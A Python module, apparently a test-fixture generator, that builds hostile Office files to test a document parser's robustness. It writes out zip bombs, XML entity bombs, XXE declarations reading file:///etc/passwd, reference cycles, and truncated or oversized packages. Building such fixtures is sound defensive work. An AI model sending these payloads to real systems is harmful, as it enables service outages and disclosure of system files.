"""Office packages made to hurt a reader: bombs, entities, passwords, cycles and cells without end, in DOCX, XLSX and XLS."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from pathlib import Path

SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")
BLOCK = b" " * (16 << 20)

WORKBOOK = {
    "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
    f'Type="{RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": f'<workbook xmlns="{SPREADSHEET}" xmlns:r="{RELATIONS}"><sheets>'
    '<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
    f'Type="{RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="r2" '
    f'Type="{RELATIONS}/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="r3" '
    f'Type="{RELATIONS}/styles" Target="styles.xml"/></Relationships>',
    "xl/sharedStrings.xml": f'<sst xmlns="{SPREADSHEET}"/>',
}
DOCUMENT = {
    "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>',
    "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" '
    f'Type="{RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>',
}


def sheet(rows: str) -> str:
    """A sheet with this XML as its rows."""
    return f'<worksheet xmlns="{SPREADSHEET}"><sheetData>{rows}</sheetData></worksheet>'


def texts(*rows: tuple[str, ...]) -> str:
    """Rows of inline texts."""
    cells = ("".join(f'<c t="inlineStr"><is><t>{cell}</t></is></c>' for cell in row) for row in rows)
    return "".join(f'<row r="{number}">{row}</row>' for number, row in enumerate(cells, 1))


def body(content: str) -> str:
    """A document with this XML as its body."""
    return f'<w:document xmlns:w="{WORD}"><w:body>{content}</w:body></w:document>'


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def write_package(path: Path, parts: Mapping[str, str | bytes], *, size: str = "", times: int = 0) -> None:
    """A package of these parts; the part named `size` is followed by `times` blocks of 16 MiB of spaces, packed once and
    repeated, so that it costs no time to make."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            if name == size:
                _write_bomb(archive, name, text.encode() if isinstance(text, str) else text, times)
            else:
                archive.writestr(name, text)


def _write_bomb(archive: zipfile.ZipFile, name: str, text: bytes, times: int) -> None:
    """Spaces stand in the text where it says @."""
    head, tail = text.split(b"@")
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    end = packer.compress(tail) + packer.flush()
    data = start + block * times + end
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(BLOCK, crc)
    entry = zipfile.ZipInfo(name)
    entry.compress_type = zipfile.ZIP_DEFLATED
    entry.CRC = zlib.crc32(tail, crc)
    entry.compress_size = len(data)
    entry.file_size = len(head) + times * len(BLOCK) + len(tail)
    entry.header_offset = archive.fp.tell()  # type: ignore[union-attr]
    archive.fp.write(entry.FileHeader() + data)  # type: ignore[union-attr]
    archive.filelist.append(entry)
    archive.NameToInfo[name] = entry
    archive.start_dir = archive.fp.tell()  # type: ignore[union-attr]
    archive._didModify = True  # type: ignore[attr-defined]


def workbook(path: Path, rows: str = "", **more: str) -> None:
    """A workbook of one sheet; `more` are parts of xl/ by name."""
    parts = {f"xl/{name}.xml": text for name, text in more.items()}
    write_package(path, {**WORKBOOK, "xl/worksheets/sheet1.xml": sheet(rows), **parts})


def document(path: Path, content: str, head: str = "") -> None:
    write_package(path, {**DOCUMENT, "word/document.xml": head + body(content)})


def entities(name: str) -> str:
    """A declaration of entities that grow a thousand million fold, for a document whose root has this name."""
    grown = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return f'<!DOCTYPE {name} [<!ENTITY e0 "lol">{grown}]>'


def zip_bomb_xlsx(path: Path) -> None:
    write_package(path, {**WORKBOOK, "xl/worksheets/sheet1.xml": sheet(" @ ")}, size="xl/worksheets/sheet1.xml", times=96)


def spaces_xlsx(path: Path) -> None:
    """One cell of 1 GB of spaces, just under the limit of what a workbook may unpack to."""
    rows = texts(("职业编码", "职业名称"), ("4-01-06-01", "电子商务师"), ("4-01-06-02", "@"))
    write_package(path, {**WORKBOOK, "xl/worksheets/sheet1.xml": sheet(rows)}, size="xl/worksheets/sheet1.xml", times=60)


def zip_bomb_docx(path: Path) -> None:
    write_package(path, {**DOCUMENT, "word/document.xml": body(paragraph("课程标准@"))}, size="word/document.xml", times=96)


def spaces_docx(path: Path) -> None:
    """80 MiB of spaces in one run, under the limit of a part."""
    write_package(path, {**DOCUMENT, "word/document.xml": body(paragraph("课程标准@"))}, size="word/document.xml", times=5)


def entity_bomb_docx(path: Path) -> None:
    document(path, paragraph("课程标准 &e11;"), entities("w:document"))


def outside_entity_docx(path: Path) -> None:
    document(path, paragraph("课程标准 &x;"), '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


def nested_docx(path: Path) -> None:
    """Two thousand tables, each in a cell of the one before."""
    open_, close = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    document(path, open_ * 2000 + paragraph("课程标准") + close * 2000)


def wide_docx(path: Path) -> None:
    """A table whose one cell says that it spans two thousand million columns and goes on for ever."""
    cell = (
        '<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge w:val="restart"/></w:tcPr>' + paragraph("课程目标") + "</w:tc>"
    )
    document(path, paragraph("课程标准") + f"<w:tbl>{f'<w:tr>{cell}</w:tr>' * 3}</w:tbl>")


def style_cycle_docx(path: Path) -> None:
    """Styles that are based on one another, and a numbering that refers to itself."""
    styles = (
        f'<w:styles xmlns:w="{WORD}"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
        '<w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
    )
    numbering = (
        f'<w:numbering xmlns:w="{WORD}"><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    content = (
        '<w:p><w:pPr><w:pStyle w:val="a"/><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>课程标准</w:t></w:r></w:p>'
    )
    write_package(
        path,
        {**DOCUMENT, "word/document.xml": body(content), "word/styles.xml": styles, "word/numbering.xml": numbering},
    )


def truncated_docx(path: Path) -> None:
    document(path, paragraph("课程标准") * 500)
    path.write_bytes(path.read_bytes()[:600])


def far_cell(path: Path) -> None:
    """Two cells at opposite corners: a dense table of them has 17 thousand million cells."""
    rows = '<row r="1"><c r="A1" t="inlineStr"><is><t>code</t></is></c></row>'
    rows += '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>name</t></is></c></row>'
    workbook(path, rows)


def entity_bomb_xlsx(path: Path) -> None:
    strings = f'{entities("sst")}<sst xmlns="{SPREADSHEET}" count="1" uniqueCount="1"><si><t>&e11;</t></si></sst>'
    workbook(path, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', sharedStrings=strings)


def outside_entity_xlsx(path: Path) -> None:
    """A shared string that asks for a file of the machine."""
    strings = '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    strings += f'<sst xmlns="{SPREADSHEET}" count="1" uniqueCount="1"><si><t>&x;</t></si></sst>'
    workbook(path, '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', sharedStrings=strings)


def style_cycle_xlsx(path: Path) -> None:
    """Cell formats that refer to one another and to formats that are not there, round a sheet that is good."""
    styles = (
        f'<styleSheet xmlns="{SPREADSHEET}"><cellStyleXfs count="2"><xf xfId="1" numFmtId="200"/><xf xfId="0" numFmtId="200"/>'
        '</cellStyleXfs><cellXfs count="2"><xf xfId="1" numFmtId="99999"/><xf xfId="9999999" numFmtId="200"/></cellXfs>'
        '<cellStyles><cellStyle xfId="0" name="a"/><cellStyle xfId="1" name="a"/></cellStyles></styleSheet>'
    )
    rows = texts(("职业编码", "职业名称"), ("4-01-06-01", "电子商务师"), ("4-01-06-0", "没有的")).replace("<c t", '<c s="1" t')
    workbook(path, rows, styles=styles)


def surrogates_xlsx(path: Path) -> None:
    """Half surrogates and NUL as character references and as Excel's own escapes."""
    rows = texts(("职业编码", "职业名称"), ("4-01-06-01", "电子商务师"), ("4-01-06-02", "&#xD800;_xD800__x0000_"))
    workbook(path, rows)


def merged_xlsx(path: Path) -> None:
    """Merged ranges that overlap and leave the sheet."""
    ranges = "".join(f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(1, 2000))
    rows = texts(("职业编码", "职业名称"), ("4-01-06-01", "电子商务师"), ("4-01", "没有的"))
    merged = sheet(rows).replace("</sheetData>", f'</sheetData><mergeCells count="1999">{ranges}</mergeCells>')
    write_package(path, {**WORKBOOK, "xl/worksheets/sheet1.xml": merged})


def broken_zip(path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    path.write_bytes(buffer.getvalue()[:60])


def compound(entries: Iterable[tuple[str, int, int]], fat: Iterable[int], size: int = 4) -> bytes:
    """A compound file: directory entries of name, first sector and size, the allocation table, and sectors of zeros."""
    header = OLE + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, 1, 0, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 1)
    directory = b""
    for name, first, length in [("Root Entry", 0xFFFFFFFE, 0), *entries]:
        text = name.encode("utf-16-le")
        entry = text.ljust(64, b"\0") + struct.pack(
            "<HBBIII", len(text) + 2, 5 if name == "Root Entry" else 2, 1, *[0xFFFFFFFF] * 2, 1
        )
        directory += entry.ljust(116, b"\0") + struct.pack("<II", first, length) + b"\0" * 4
    table = b"".join(struct.pack("<I", one) for one in fat).ljust(512, b"\xff")
    return header.ljust(512, b"\xff") + directory.ljust(512, b"\0") + table + b"\0" * 512 * size


def password_package(path: Path) -> None:
    """What Office writes for a package with a password: a compound file with the package inside."""
    end = 0xFFFFFFFE
    path.write_bytes(compound([("EncryptedPackage", 2, 4096), ("EncryptionInfo", 3, 4096)], [end, 0xFFFFFFFD, end, end]))


def sector_cycle_xls(path: Path) -> None:
    """A stream whose sectors lead back to the first."""
    path.write_bytes(compound([("Workbook", 2, 1 << 24)], [0xFFFFFFFE, 0xFFFFFFFD, 3, 2]))


def directory_cycle_xls(path: Path) -> None:
    """A directory that is followed by itself."""
    path.write_bytes(compound([("Workbook", 2, 4096)], [0, 0xFFFFFFFD, 0xFFFFFFFE]))


def noise_xls(path: Path) -> None:
    path.write_bytes(compound([("Workbook", 2, 512)], [0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFE])[:1536] + bytes(range(256)) * 2)


def truncated_xls(path: Path) -> None:
    path.write_bytes(compound([("Workbook", 2, 4096)], [0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFE])[:1100])
